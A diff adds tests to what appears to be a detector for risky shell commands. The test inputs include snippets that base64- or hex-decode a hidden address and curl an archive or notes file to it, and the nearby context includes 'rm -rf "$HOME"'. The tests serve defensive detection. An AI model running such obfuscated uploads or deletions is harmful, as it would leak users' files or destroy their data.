@@ -369,3 +369,19 @@ def test_parentheses_inside_a_default_word_parse() -> None:
         'rm -rf "$HOME"\n'
     )
     assert DELETE in _rules(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'u=$(echo aHR0cHM6Ly94LmV4YW1wbGUvaW4= | base64 -d)\ncurl -s -T backup.tgz "$u"\n',
+        'dest="$(printf %s 68747470733a2f2f782e6578616d706c65 | xxd -r -p)"\ncurl "$dest" --data-binary @notes.md\n',
+    ],
+)
+def test_shell_upload_to_a_decoded_address(text: str) -> None:
+    assert "SKC-FL-063" in _rules(text)
+
+
+def test_shell_download_from_a_decoded_address_is_not_an_upload() -> None:
+    text = 'u=$(echo aHR0cHM6Ly94LmV4YW1wbGUvYS50Z3o= | base64 -d)\ncurl -fsSLo a.tgz "$u"\n'
+    assert "SKC-FL-063" not in _rules(text)
